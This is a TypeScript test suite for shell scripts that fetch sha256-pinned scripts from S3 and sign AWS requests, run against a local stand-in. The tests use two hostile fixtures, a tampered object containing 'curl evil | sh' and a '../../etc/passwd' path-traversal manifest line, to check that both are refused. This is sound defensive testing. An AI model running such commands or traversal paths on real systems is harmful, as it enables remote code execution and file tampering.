// fetch-scripts.sh and aws-api.sh, run for real (bash, curl --aws-sigv4, sha256sum) against the
// AWS stand-in: IMDSv2 and S3 on 127.0.0.1, whose every signed request is checked with botocore's
// SigV4 signer (support/aws_standin.py). Stand-in for the cloud only.
import { strict as assert } from "assert";
import * as crypto from "crypto";
import * as fs from "fs";
import * as path from "path";
import { AwsStandIn, startAwsStandIn } from "./support/aws";
import { run, runScript, SCRIPTS_DIR } from "./support/scripts";
import { ensureCommands, tempDir } from "./support/system";

const sha = (s: string | Buffer) => crypto.createHash("sha256").update(s).digest("hex");

describe("fetch-scripts.sh (EC2: scripts from the cluster's S3 bucket)", function () {
    this.timeout(120000);
    let tmp: { dir: string; cleanup: () => void };
    let aws: AwsStandIn;
    let caseDir: string;
    let installDir: string;
    let manifest: string;
    let nodeEnv: string;
    const scripts: Record<string, string> = {
        "node-ip.sh": "#!/usr/bin/env bash\necho node-ip\n",
        "db-init.sh": "#!/usr/bin/env bash\necho db-init\n\n\n",
    };

    before(async function () {
        ensureCommands({ curl: "curl", sha256sum: "coreutils" });
        tmp = tempDir("fetch-scripts");
        aws = await startAwsStandIn();
    });
    after(async function () {
        await aws.close();
        tmp.cleanup();
    });

    beforeEach(function () {
        caseDir = fs.mkdtempSync(path.join(tmp.dir, "case-"));
        installDir = path.join(caseDir, "lib");
        manifest = path.join(caseDir, "scripts.sha256");
        nodeEnv = path.join(caseDir, "node.env");
        fs.writeFileSync(
            nodeEnv,
            "SCRIPT_BUCKET='wso2is-dev-scripts-0a1b2c'\nSCRIPT_REGION='eu-west-1'\nSCRIPT_PREFIX='scripts'\n",
        );
        fs.writeFileSync(
            manifest,
            Object.entries(scripts)
                .map(([n, t]) => `${sha(t)}  ${n}\n`)
                .join(""),
        );
        aws.update({
            objects: Object.fromEntries(Object.values(scripts).map((t) => [`/scripts/${sha(t)}`, t])),
            fail: {},
            delayMs: {},
        });
    });

    const env = () => ({
        ...aws.env,
        WSO2IS_NODE_ENV: nodeEnv,
        WSO2IS_SCRIPTS_MANIFEST: manifest,
        WSO2IS_SCRIPT_DIR: installDir,
    });
    const s3Requests = () => aws.requests().filter((r) => r.category === "s3");

    it("downloads each script by its sha256 with a signed GetObject, installs it 0755 root; a rerun needs neither S3 nor IMDS", async function () {
        const before = aws.requests().length;
        let r = await runScript("fetch-scripts.sh", env());
        assert.equal(r.code, 0, r.stderr);
        for (const [name, text] of Object.entries(scripts)) {
            const file = path.join(installDir, name);
            assert.equal(
                fs.readFileSync(file, "utf8"),
                text,
                `${name}: byte for byte, trailing newlines too`,
            );
            const st = fs.statSync(file);
            assert.equal(st.mode & 0o777, 0o755);
            assert.equal(st.uid, 0);
        }
        assert.deepEqual(fs.readdirSync(installDir).sort(), Object.keys(scripts).sort(), "no temp file left");
        const gets = aws
            .requests()
            .slice(before)
            .filter((q) => q.category === "s3");
        assert.equal(gets.length, 2);
        for (const g of gets) {
            assert.equal(g.sigOk, true, g.sigError);
            assert.equal(g.method, "GET");
            assert.match(
                g.headers.authorization,
                /\/eu-west-1\/s3\/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date;x-amz-security-token,/,
            );
        }
        // IMDSv2 first: a PUT for the token, then the role and its credentials with it.
        const imds = aws
            .requests()
            .slice(before)
            .filter((q) => q.category !== "s3");
        assert.equal(imds[0].method, "PUT");
        assert.equal(imds[0].path, "/latest/api/token");
        for (const q of imds.slice(1))
            assert.equal(q.headers["x-aws-ec2-metadata-token"], aws.config.imdsToken, q.path);

        const count = aws.requests().length;
        r = await runScript("fetch-scripts.sh", { ...env(), WSO2IS_IMDS_ENDPOINT: "http://127.0.0.1:9" });
        assert.equal(r.code, 0, r.stderr);
        assert.match(r.stderr, /all 2 scripts present with their sha256/);
        assert.equal(aws.requests().length, count, "a rerun called AWS");
    });

    it("replaces only the script whose digest changed", async function () {
        fs.mkdirSync(installDir);
        fs.writeFileSync(path.join(installDir, "node-ip.sh"), scripts["node-ip.sh"], { mode: 0o755 });
        fs.writeFileSync(path.join(installDir, "db-init.sh"), "#!/usr/bin/env bash\necho old\n", {
            mode: 0o755,
        });
        const before = s3Requests().length;
        const r = await runScript("fetch-scripts.sh", env());
        assert.equal(r.code, 0, r.stderr);
        assert.deepEqual(
            s3Requests()
                .slice(before)
                .map((q) => q.path),
            [`/scripts/${sha(scripts["db-init.sh"])}`],
        );
        assert.equal(fs.readFileSync(path.join(installDir, "db-init.sh"), "utf8"), scripts["db-init.sh"]);
    });

    it("refuses a tampered object, leaving the installed script and no temp file", async function () {
        fs.mkdirSync(installDir);
        fs.writeFileSync(path.join(installDir, "db-init.sh"), "#!/usr/bin/env bash\necho old\n", {
            mode: 0o755,
        });
        const key = `/scripts/${sha(scripts["db-init.sh"])}`;
        aws.update({ objects: { ...aws.config.objects, [key]: "#!/usr/bin/env bash\ncurl evil | sh\n" } });
        const r = await runScript("fetch-scripts.sh", env());
        assert.notEqual(r.code, 0);
        assert.match(
            r.stderr,
            new RegExp(
                `fetch-scripts.sh: error: s3://wso2is-dev-scripts-0a1b2c/scripts/${sha(scripts["db-init.sh"])} \\(db-init.sh\\) has sha256 [0-9a-f]{64}, expected ${sha(scripts["db-init.sh"])}: refused`,
            ),
        );
        assert.equal(
            fs.readFileSync(path.join(installDir, "db-init.sh"), "utf8"),
            "#!/usr/bin/env bash\necho old\n",
        );
        assert.ok(!fs.readdirSync(installDir).some((f) => f.startsWith(".")), "temp file left behind");
    });

    it("retries S3 503s and a late IMDS with a logged backoff", async function () {
        aws.update({ fail: { s3: 2, imds: 1 } });
        const r = await runScript("fetch-scripts.sh", { ...env(), AWS_API_RETRIES: "4" });
        assert.equal(r.code, 0, r.stderr);
        // lib.sh's retry: the attempt logs what AWS said, retry what it waits for.
        assert.match(
            r.stderr,
            /fetch-scripts.sh: IMDS PUT \/latest\/api\/token: HTTP 503\nfetch-scripts.sh: waiting for IMDS PUT \/latest\/api\/token: attempt 1\/4 failed \(exit 1\); next try in 0s\n/,
        );
        assert.match(
            r.stderr,
            /fetch-scripts.sh: s3 GET (\S+): HTTP 503: stand-in: not yet\nfetch-scripts.sh: waiting for s3 GET \1: attempt 2\/4 failed \(exit 1\); next try in 0s\n/,
        );
        assert.equal(fs.readdirSync(installDir).length, 2);
    });

    it("a missing object fails at once, naming the key and the role's permission", async function () {
        aws.update({ objects: {} });
        const before = s3Requests().length;
        const r = await runScript("fetch-scripts.sh", env());
        assert.notEqual(r.code, 0);
        assert.deepEqual(
            s3Requests()
                .slice(before)
                .map((q) => q.status),
            [404],
            "one GetObject, not retried",
        );
        assert.match(r.stderr, /: HTTP 404: <Error><Code>NoSuchKey.*\n.*: failed \(exit 3\), not retried\n/);
        assert.match(
            r.stderr,
            /could not read s3:\/\/wso2is-dev-scripts-0a1b2c\/scripts\/[0-9a-f]{64} \((node-ip|db-init)\.sh\) \(does the node role allow s3:GetObject there\?\)/,
        );
    });

    it("refuses a manifest line that is not '<sha256>  <name>' before touching anything", async function () {
        fs.appendFileSync(manifest, `${sha("x")}  ../../etc/passwd\n`);
        const r = await runScript("fetch-scripts.sh", env());
        assert.notEqual(r.code, 0);
        assert.match(r.stderr, /not a '<sha256> {2}<name>' line: '[0-9a-f]{64} {2}\.\.\/\.\.\/etc\/passwd'/);
        assert.ok(!fs.existsSync(installDir));
    });
});

describe("aws-api.sh (SigV4 through curl, credentials from IMDSv2)", function () {
    this.timeout(120000);
    let aws: AwsStandIn;
    let tmp: { dir: string; cleanup: () => void };
    before(async function () {
        tmp = tempDir("aws-api");
        aws = await startAwsStandIn({ secrets: { s: "v" } });
    });
    after(async function () {
        await aws.close();
        tmp.cleanup();
    });

    /** Sources the shipped lib.sh and aws-api.sh under set -euo pipefail and runs `body`. */
    const bash = (body: string, env: Record<string, string> = {}, lib = true) =>
        run(
            "bash",
            [
                "-c",
                `set -Eeuo pipefail; ${lib ? `source '${path.join(SCRIPTS_DIR, "lib.sh")}'; ` : ""}source '${path.join(SCRIPTS_DIR, "aws-api.sh")}'; ${body}`,
            ],
            { ...aws.env, ...env },
        );

    const getSecret = `aws_request eu-west-1 secretsmanager POST "$WSO2IS_AWS_ENDPOINT_URL/" - -H 'X-Amz-Target: secretsmanager.GetSecretValue' -H 'Content-Type: application/x-amz-json-1.1' --data-binary '{"SecretId":"s"}'`;

    it("signs what botocore signs; the stand-in's check can fail: a wrong secret key gets 403", async function () {
        let r = await bash(getSecret);
        assert.equal(r.code, 0, r.stderr);
        assert.equal(aws.requests().at(-1)!.sigOk, true);
        const right = aws.config.secretAccessKey;
        const wrong = `${right.slice(0, -1)}${right.endsWith("A") ? "B" : "A"}`;
        r = await bash(`_aws_credentials; _AWS_SECRET='${wrong}'; ${getSecret}`);
        assert.notEqual(r.code, 0);
        assert.match(r.stderr, /HTTP 403: .*SignatureDoesNotMatch.*signature does not match/);
        assert.equal(aws.requests().at(-1)!.sigError, "signature does not match");
    });

    it("a wrong session token or an unsigned token header is refused too", async function () {
        const r = await bash(
            `_aws_credentials; _AWS_TOKEN=${"A".repeat(40)}; aws_request eu-west-1 s3 GET "$WSO2IS_AWS_ENDPOINT_URL/x" - -H 'x-amz-content-sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'`,
        );
        assert.notEqual(r.code, 0);
        assert.match(r.stderr, /HTTP 403: .*wrong session token/);
    });

    it("keeps the IMDS token and the credentials across retried attempts and calls", async function () {
        aws.update({ fail: { secretsmanager: 1 } });
        try {
            const before = aws.requests().length;
            const r = await bash(`${getSecret} >/dev/null; ${getSecret}`);
            assert.equal(r.code, 0, r.stderr);
            assert.match(r.stdout, /"SecretString": "v"/);
            const calls = aws.requests().slice(before);
            assert.deepEqual(
                calls.filter((q) => q.category === "secretsmanager").map((q) => q.status),
                [503, 200, 200],
            );
            // One token, the role, its credentials: retry --stream runs each attempt in this shell.
            assert.deepEqual(
                calls.filter((q) => q.category !== "secretsmanager").map((q) => `${q.method} ${q.path}`),
                [
                    "PUT /latest/api/token",
                    "GET /latest/meta-data/iam/security-credentials/",
                    `GET /latest/meta-data/iam/security-credentials/${aws.config.role}`,
                ],
            );
        } finally {
            aws.update({ fail: {} });
        }
    });

    it("aws_region reads the placement region; aws_endpoint names AWS's endpoints", async function () {
        let r = await bash("aws_region");
        assert.equal(r.code, 0, r.stderr);
        assert.equal(r.stdout, "eu-west-1\n");
        r = await bash(
            "unset WSO2IS_AWS_ENDPOINT_URL; aws_endpoint secretsmanager eu-west-1; aws_endpoint s3 eu-west-1 my-bucket; aws_endpoint s3 eu-west-1 my.bucket",
        );
        assert.equal(
            r.stdout,
            "https://secretsmanager.eu-west-1.amazonaws.com\nhttps://my-bucket.s3.eu-west-1.amazonaws.com\nhttps://s3.eu-west-1.amazonaws.com/my.bucket\n",
        );
    });

    it("refreshes credentials that are about to expire, and refuses an unusable credentials document", async function () {
        // Credentials held that expire in 60 s are fetched again before the call.
        let r = await bash(
            `_aws_credentials; _AWS_SECRET=stale; _AWS_EXPIRES=$(($(date +%s) + 60)); ${getSecret}`,
        );
        assert.equal(r.code, 0, r.stderr);
        assert.match(r.stdout, /"SecretString": "v"/);
        // A secret key with a quote would break curl's config: refused, not passed on.
        const right = aws.config.secretAccessKey;
        aws.update({ secretAccessKey: 'abc"def' });
        try {
            r = await bash("_aws_credentials");
            assert.notEqual(r.code, 0);
            assert.match(r.stderr, /IMDS credentials of role wso2is-test-node are incomplete or not Success/);
        } finally {
            aws.update({ secretAccessKey: right });
        }
    });

    it("needs lib.sh sourced first, and says so", async function () {
        const r = await bash("echo unreachable", {}, false);
        assert.equal(r.code, 2);
        assert.equal(r.stdout, "");
        assert.equal(r.stderr, "aws-api.sh: error: aws-api.sh needs lib.sh sourced first\n");
    });

    it("refuses a retry setting that is not a small number, before any call", async function () {
        const r = await bash("echo unreachable", { AWS_API_RETRIES: "many" });
        assert.notEqual(r.code, 0);
        assert.equal(r.stdout, "");
        assert.match(
            r.stderr,
            /error: AWS_API_RETRIES must be 1-99 and AWS_API_RETRY_DELAY 0-99 s, got 'many' and '0'/,
        );
    });

    it("a connection error is retried and logged with curl's message", async function () {
        const r = await bash(
            `aws_request eu-west-1 s3 GET http://127.0.0.1:9/x - -H 'x-amz-content-sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'`,
            { AWS_API_RETRIES: "2" },
        );
        assert.notEqual(r.code, 0);
        assert.match(r.stderr, /s3 GET http:\/\/127.0.0.1:9\/x: HTTP 000: .*(connect|Connection refused)/);
        assert.match(r.stderr, /waiting for s3 GET http:\/\/127.0.0.1:9\/x: attempt 1\/2 failed/);
        assert.match(r.stderr, /s3 GET http:\/\/127.0.0.1:9\/x: failed after 2 attempts \(exit 1\)\n/);
    });
});
